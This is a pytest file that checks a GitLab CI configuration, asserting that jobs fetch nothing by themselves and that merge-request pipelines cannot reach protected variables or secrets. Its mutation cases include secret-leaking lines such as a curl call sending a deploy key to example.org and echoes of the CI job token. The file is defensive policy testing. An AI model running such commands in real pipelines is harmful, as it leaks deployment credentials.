"""The jobs of GitLab keep the rules of the workflows, in GitLab's own words."""

from pathlib import Path

import pytest

from tests.policy.workflows import FETCHES, PUSHED, SCHEDULED, protected, read

ROOT = Path(__file__).resolve().parents[2]
GITLAB = (ROOT / ".gitlab-ci.yml").read_text("utf-8")
AUDIT = (ROOT / ".github" / "workflows" / "audit.yml").read_text("utf-8")


def test_the_jobs_of_gitlab_fetch_nothing_by_themselves_and_the_schedule_only_audits() -> None:
    jobs = {name: job for name, job in read(GITLAB).items() if isinstance(job, dict) and "script" in job}
    assert not [name for name, job in jobs.items() if FETCHES.search("\n".join(job["script"]))]
    rules = {name: [rule["if"] for rule in job["rules"]] for name, job in jobs.items()}
    assert rules == {
        "data": ['$CI_PIPELINE_SOURCE == "merge_request_event"'],
        "code": ['$CI_PIPELINE_SOURCE != "schedule"'],
        "build": [PUSHED],
        "pages": [PUSHED],
        "audit": [SCHEDULED],
    }
    (_, job), *others = read(AUDIT)["jobs"].items()
    assert (others, jobs["audit"]["script"]) == ([], [step["run"] for step in job["steps"] if "run" in step])


GATE = "    - .ci/run\n    - make html\n"
SCHEDULE = """    - if: $CI_PIPELINE_SOURCE == "schedule"\n"""
KEEPS = """ && $CI_PIPELINE_SOURCE != "schedule"\n  needs: [build]\n"""


@pytest.mark.parametrize(
    ("old", "new", "named"),
    [
        ("    - .venv/bin/thuocdo check --strict\n", "    - curl -H $DEPLOY_KEY example.org\n", "data"),
        ("    - .venv/bin/thuocdo check --strict\n", "    - echo ${CI_JOB_TOKEN}\n", "data"),
        (GATE, GATE + "  secrets: {KEY: {vault: a/b}}\n", "code"),
        (GATE, GATE + "  environment: pages\n", "code"),
        (KEEPS, " || $CI_MERGE_REQUEST_IID\n  needs: [build]\n", "pages"),
        (SCHEDULE + "  script:\n", "    - if: $CI_MERGE_REQUEST_IID\n  script:\n    - echo $KEY\n", "audit"),
        ("variables:", "include: other.yml\nvariables:", "include"),
        ("default:\n", "default:\n  id_tokens: {KEY: {aud: a}}\n", "default"),
    ],
)
def test_a_merge_request_gets_no_protected_variable(old: str, new: str, named: str) -> None:
    assert protected(GITLAB) == set()
    assert old in GITLAB
    assert protected(GITLAB.replace(old, new, 1)) == {named}
